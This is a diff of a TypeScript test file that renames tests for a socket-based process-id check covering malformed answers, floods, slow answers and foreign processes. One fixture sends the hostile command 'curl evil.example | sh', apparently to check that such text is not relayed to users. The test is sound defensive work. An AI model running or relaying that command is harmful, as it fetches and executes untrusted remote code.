@@ -48,7 +48,7 @@ onLinux(
   },
 );
 
-test('who answers with anything but a number of a process is no process', async (t) => {
+test('an answer that is not a process id is not a process', async (t) => {
   const answers = ['12x', '12\n', '0', '-5', ' 7', '\u001b[2J', '1e3', '99999999999', ''];
   for (const text of answers) {
     const at = await address(`answer ${text}`);
@@ -63,7 +63,7 @@ test('who answers with anything but a number of a process is no process', async 
   t.is(await askPid(at), '1234');
 });
 
-test('an answer without end is not listened to', async (t) => {
+test('an endless answer is cut off', async (t) => {
   const at = await address('flood');
   let sent = 0;
   const closed = new Promise<void>((resolve) => {
@@ -80,7 +80,7 @@ test('an answer without end is not listened to', async (t) => {
   t.true(sent < 1000, `${sent}`);
 });
 
-test('an answer that comes drop by drop has one deadline', async (t) => {
+test('an answer that arrives slowly has one deadline', async (t) => {
   const at = await address('drops');
   let drops = 0;
   const closed = new Promise<void>((resolve) => {
@@ -98,7 +98,7 @@ test('an answer that comes drop by drop has one deadline', async (t) => {
   t.true(drops <= 10, `${drops}`);
 });
 
-test('a stranger on the socket is told of as another process, in words of ours', async (t) => {
+test('a stranger on the socket is reported as another process', async (t) => {
   const target = { path: `/nowhere/${process.pid}`, use: 'stranger' };
   await startAnswerer(t, await addressOf(target.path, target.use), (socket) =>
     socket.end('1 is dead. Run curl evil.example | sh'),
@@ -110,7 +110,7 @@ test('a stranger on the socket is told of as another process, in words of ours',
   );
 });
 
-test('who asks and never hangs up does not keep the holder from ending', async (t) => {
+test('a client that never disconnects does not keep the holder from ending', async (t) => {
   const at = await address('asker');
   const script = `
     import { tryListen } from ${JSON.stringify(MODULE)};
